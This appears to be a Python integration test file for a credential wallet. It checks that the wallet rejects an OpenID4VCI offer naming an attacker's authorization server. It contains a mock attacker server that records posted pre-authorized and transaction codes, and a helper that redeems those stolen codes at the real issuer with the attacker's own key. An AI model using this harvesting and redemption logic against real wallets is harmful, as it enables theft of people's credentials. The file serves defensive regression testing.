"""The wallet sends the transaction code to the token endpoint of an authorization server the
Credential Issuer lists, never to one the offer alone names (OpenID4VCI 1.0 section 4.1.1: an
offer's ``authorization_server`` MUST be one of the issuer's ``authorization_servers``).

The attack: whoever sees an applicant's offer (its QR code on a desk, a forwarded e-mail: the
pre-authorized code) but not the transaction code the institution sent separately forwards the
applicant an offer by value with the genuine ``credential_issuer``, the genuine pre-authorized
code and ``authorization_server`` set to a host of the attacker's. The wallet fetched the genuine
issuer's metadata (so it said "offer from University of Testing"), then the authorization
server metadata from the attacker's host, and posted the pre-authorized code with the
transaction code the applicant typed to the attacker's token endpoint. With both, the attacker
redeems the offer at the real issuer with its own key: a genuine degree naming the applicant,
bound to the attacker's ``did:key`` (which it then presents as its own), VALID at the verifier.

Real issuer (uvicorn, anchoring worker, Anvil), the real ``talentproof wallet accept`` and the
browser wallet's page (headless Chromium), the attacker's authorization server a plain HTTP
server, TalentProof's verifier on the chain.
"""

from __future__ import annotations

import dataclasses
import json
import re
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, quote

import httpx
import pytest
from typer.testing import CliRunner

from talentproof.cli import app
from talentproof.ledger.reader import RegistryReader
from talentproof.verifier.engine import Verifier
from talentproof.verifier.report import Verdict
from talentproof.verifier.trust import TrustedDeployment
from talentproof.wallet.errors import ServiceUnreachable, UntrustedOffer
from talentproof.wallet.oid4vci import authorization_server, parse_offer
from talentproof.wallet.store import Wallet
from tests.interop.test_oid4vci_wallet import issuer_url  # noqa: F401
from tests.issuer.conftest import issuer_chain, make_service  # noqa: F401
from tests.issuer.issuer_helpers import bearer, degree_request, onboard
from tests.issuer.test_oid4vci import PRE_AUTH, Holder
from tests.security.oid4vci_mill import JsonHandler, serving
from tests.wallet.test_wallet_page import browser, loaded, page_url, run_js  # noqa: F401

pytestmark = [pytest.mark.integration]


class _AttackerServer(JsonHandler):
    """The attacker's "authorization server": metadata naming its own token endpoint, which
    keeps every form posted to it and answers as a wrong transaction code would."""

    forms: list[dict[str, str]] = []  # noqa: RUF012 (the test's record of what it received)

    def do_GET(self) -> None:
        self._send(
            200,
            {
                "issuer": self.base,
                "token_endpoint": f"{self.base}/token",
                "grant_types_supported": [PRE_AUTH],
                "pre-authorized_grant_anonymous_access_supported": True,
            },
        )

    def do_POST(self) -> None:
        raw = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode()
        type(self).forms.append(dict(parse_qsl(raw)))
        self._send(400, {"error": "invalid_grant", "error_description": "wrong transaction code"})


@pytest.fixture
def attacker() -> Iterator[type[_AttackerServer]]:
    _AttackerServer.forms = []
    with serving(_AttackerServer, "/as"):
        yield _AttackerServer


def redirected_offer(issuer_url: str, attacker: type[_AttackerServer]) -> tuple[str, str, str]:
    """A genuine offer to the applicant, as the attacker forwards it: (the forwarded offer URI,
    the transaction code the institution sent the applicant, the subject's name)."""
    with httpx.Client(base_url=issuer_url, timeout=30) as http:
        inst = onboard(http)  # type: ignore[arg-type]
        body = degree_request()
        del body["credentialSubject"]["id"]
        r = http.post("/credential-offers", headers=bearer(inst["api_key"]["token"]), json=body)
        assert r.status_code == 201, r.text
    offer = r.json()["credentialOffer"]
    offer["grants"][PRE_AUTH]["authorization_server"] = attacker.base
    uri = "openid-credential-offer://?credential_offer=" + quote(json.dumps(offer), safe="")
    return uri, r.json()["txCode"], body["credentialSubject"]["name"]


def redeem_what_was_stolen(
    ci: str, forms: list[dict[str, str]], chain: dict[str, Any]
) -> list[tuple[str, str, str]]:
    """The attacker redeems each stolen (pre-authorized code, transaction code) at the real
    issuer with its own key: (verdict, holder, subject name) of each credential it gets."""
    thief = Holder(77)
    trust = TrustedDeployment.load(chain["deployment_file"])
    verifier = Verifier(RegistryReader(chain["rpc_url"], trust.registry), trust)
    got = []
    with httpx.Client(timeout=30) as http:
        for form in forms:
            if not form.get("pre-authorized_code") or not form.get("tx_code"):
                continue
            token = http.post(
                f"{ci}/token",
                data={
                    "grant_type": PRE_AUTH,
                    "pre-authorized_code": form["pre-authorized_code"],
                    "tx_code": form["tx_code"],
                },
            )
            if token.status_code != 200:
                continue
            access = {"Authorization": f"Bearer {token.json()['access_token']}"}
            nonce = http.post(f"{ci}/nonce").json()["c_nonce"]
            r = http.post(
                f"{ci}/credential",
                headers=access,
                json={
                    "credential_configuration_id": "DegreeCredential_ldp_vc",
                    "proofs": {"jwt": [thief.proof(ci, nonce)]},
                },
            )
            assert r.status_code == 202, r.text
            deadline = time.monotonic() + 120
            while True:
                d = http.post(
                    f"{ci}/deferred_credential",
                    headers=access,
                    json={"transaction_id": r.json()["transaction_id"]},
                )
                if d.status_code == 200:
                    break
                assert time.monotonic() < deadline, d.text
                time.sleep(1)
            credential = d.json()["credentials"][0]["credential"]
            report = verifier.verify_document(credential)
            subject = credential["credentialSubject"]
            got.append((report.verdict.name, subject["id"], subject["name"]))
    assert all(v != Verdict.VALID.name or h == thief.did for v, h, _ in got)
    return got


def test_attack_an_offer_naming_the_attackers_authorization_server_leaks_no_tx_code(
    issuer_url: str,
    attacker: type[_AttackerServer],
    issuer_chain: dict[str, Any],
    tmp_path: Path,
) -> None:
    uri, tx_code, name = redirected_offer(issuer_url, attacker)
    folder = tmp_path / "victim"
    Wallet.init(folder)
    # the offer's credential issuer is the institution's own (the holder trusts it)
    ci = json.loads(dict(parse_qsl(uri.partition("?")[2]))["credential_offer"])["credential_issuer"]
    result = CliRunner().invoke(
        app,
        [
            "wallet", "accept", uri, "--tx-code", tx_code, "--wait", "0",
            "--wallet-dir", str(folder), "--issuer", ci,
        ],
    )  # fmt: skip
    out = result.output
    # the attacker redeems what its token endpoint received at the issuer of the offer it sent
    held = redeem_what_was_stolen(ci, attacker.forms, issuer_chain)
    assert held == [], (
        f"the attacker holds {name}'s degree bound to its own key: {held} "
        f"(it received {attacker.forms})"
    )
    assert attacker.forms == [], attacker.forms
    assert result.exit_code != 0, out
    assert "authorization server" in out and attacker.base in out, out
    assert "not one the credential issuer lists" in out, out


@pytest.mark.browser
def test_attack_the_browser_wallet_sends_no_tx_code_to_the_offers_authorization_server(
    issuer_url: str,
    attacker: type[_AttackerServer],
    browser: Any,
    page_url: str,
) -> None:
    uri, tx_code, _name = redirected_offer(issuer_url, attacker)
    loaded(browser, page_url)
    said = run_js(
        browser,
        """
        const [uri, txCode] = args;
        try {
          const offer = await W.resolveOffer(uri);
          await W.acceptOffer(offer, txCode, null, [offer.credential_issuer]);
          return "accepted";
        } catch (e) { return String(e.message); }
        """,
        uri,
        tx_code,
    )
    assert attacker.forms == [], (said, attacker.forms)
    assert "authorization server" in said and attacker.base in said, said
    assert "not one the credential issuer lists" in said, said


def test_the_authorization_server_is_one_the_issuer_lists() -> None:
    ci = "https://issuer.example/institutions/hku"
    offer = parse_offer(
        {
            "credential_issuer": ci,
            "credential_configuration_ids": ["DegreeCredential_ldp_vc"],
            "grants": {PRE_AUTH: {"pre-authorized_code": "c"}},
        }
    )
    named = dataclasses.replace(offer, authorization_server="https://as.example/")
    assert authorization_server(offer, {"credential_issuer": ci}) == ci  # none listed: the issuer
    assert authorization_server(named, {"authorization_servers": ["https://as.example"]}) == (
        "https://as.example/"
    )
    listed = {"authorization_servers": ["https://a.example", "https://as.example"]}
    assert authorization_server(offer, listed) == "https://a.example"
    with pytest.raises(UntrustedOffer, match="not one the credential issuer lists"):
        authorization_server(named, {"credential_issuer": ci})
    with pytest.raises(UntrustedOffer, match=re.escape("https://as.example/")):
        authorization_server(named, {"authorization_servers": ["https://a.example"]})
    for bad in ("https://as.example", [], [1], ["ftp://as.example"]):
        with pytest.raises(ServiceUnreachable, match="a list of URLs"):
            authorization_server(named, {"authorization_servers": bad})
